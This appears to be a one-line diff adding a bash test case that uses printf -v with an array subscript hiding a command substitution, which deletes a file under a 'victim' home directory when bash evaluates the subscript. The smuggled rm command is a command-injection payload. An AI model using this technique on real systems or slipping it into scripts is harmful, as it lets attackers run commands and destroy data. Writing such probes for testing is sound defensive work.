@@ -1,0 +1,1 @@
+printf -v 'a[$(rm -f /srv/rt/s/d1/home/victim/keep-D13)]' %s 1
